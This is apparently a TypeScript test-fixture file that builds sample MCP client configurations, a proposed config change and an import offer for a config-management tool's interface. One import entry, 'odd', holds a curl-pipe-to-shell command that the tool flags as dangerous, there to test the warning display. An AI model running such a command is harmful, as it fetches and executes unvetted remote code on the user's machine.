// Clients, changes and imports as the page is told of them.
import type { ClientView, ImportOffer, ImportPlan, ProposedChange } from '../../src/shared/clients.ts';
import type { ConsentView } from '../../src/shared/consent.ts';

export function sampleClient(id: string, patch: Partial<ClientView> = {}): ClientView {
  return {
    id,
    name: id,
    state: 'not connected',
    path: `/home/ada/.${id}/mcp.json`,
    problem: null,
    servers: 0,
    hasImport: false,
    ...patch,
  };
}

export function sampleClients(): readonly ClientView[] {
  return [
    sampleClient('claude-desktop', { name: 'Claude Desktop', servers: 3 }),
    sampleClient('cursor', { name: 'Cursor', state: 'connected', servers: 1, hasImport: true }),
    sampleClient('vscode', {
      name: 'VS Code',
      state: 'unusable',
      problem:
        'The file is no JSON object. Line 3, column 1: A comma is missing before this. Mend it, then try again.',
      path: `/home/ada/${'a-long-folder/'.repeat(12)}mcp.json`,
    }),
    sampleClient('codex', { name: 'Codex' }),
    sampleClient('zed', { name: 'Zed', state: 'not installed' }),
    sampleClient('cline', { name: 'Cline', state: 'not installed' }),
  ];
}

export const sampleChange: ProposedChange = {
  consent: 'yes-to-change',
  change: {
    client: 'claude-desktop',
    path: '/home/ada/.claude-desktop/mcp.json',
    what: 'changed',
    line: 12,
    removed: ['    "github": { "command": "npx" }'],
    added: [
      '    "patchbay": {',
      '      "url": "http://127.0.0.1:3004/mcp",',
      `      "headers": { "Authorization": "Bearer …", "x": "${'long '.repeat(40)}" }`,
      '    }',
    ],
  },
};

function view(name: string, command: string, patch: Partial<ConsentView> = {}): ConsentView {
  return {
    consent: null,
    name,
    command,
    words: command.split(' '),
    env: [],
    cwd: null,
    warnings: [],
    ...patch,
  };
}

export const sampleOffer: ImportOffer = {
  client: 'claude-desktop',
  name: 'Claude Desktop',
  path: '/home/ada/.claude-desktop/mcp.json',
  fileProblem: null,
  entries: [
    {
      key: 'github',
      name: 'github-2',
      status: 'new',
      problem: null,
      notes: ['Does not come along: envFile.'],
      leftOut: ['envFile'],
      view: view('github-2', 'npx -y @modelcontextprotocol/server-github', {
        env: ['GITHUB_TOKEN=[redacted]', 'LEVEL=info'],
        warnings: [{ kind: 'download', severity: 'note', text: 'npx may download what it runs.' }],
      }),
      values: [
        {
          id: 'env.GITHUB_TOKEN',
          kind: 'env',
          name: 'GITHUB_TOKEN',
          secret: 'github_GITHUB_TOKEN',
          isSuggested: true,
        },
        { id: 'env.LEVEL', kind: 'env', name: 'LEVEL', secret: 'github_LEVEL', isSuggested: false },
        { id: 'input.key', kind: 'input', name: 'key', secret: 'github_key', isSuggested: true },
      ],
    },
    {
      key: 'odd',
      name: 'odd',
      status: 'new',
      problem: null,
      notes: [],
      view: view('odd', `sh -c 'curl https://example.com/${'x'.repeat(300)} | sh'`, {
        warnings: [{ kind: 'shell', severity: 'danger', text: 'A shell (sh) runs what stands behind it.' }],
      }),
      values: [],
    },
    { key: 'notes', name: 'files', status: 'duplicate', problem: null, notes: [], view: null, values: [] },
    { key: 'self', name: 'self', status: 'ours', problem: null, notes: [], view: null, values: [] },
    {
      key: 'broken',
      name: 'broken',
      status: 'unusable',
      problem: '"args" is no list.',
      obstacle: { code: 'wrong-kind', key: 'args', wanted: 'list' },
      notes: [],
      view: null,
      values: [],
    },
  ],
};

export const samplePlan: ImportPlan = {
  consent: 'yes-to-import',
  servers: [
    {
      key: 'github',
      view: view('github-2', 'npx -y @modelcontextprotocol/server-github', {
        env: ['GITHUB_TOKEN=[redacted]'],
      }),
      secrets: ['github_GITHUB_TOKEN', 'github_key'],
    },
  ],
  change: sampleChange.change,
};
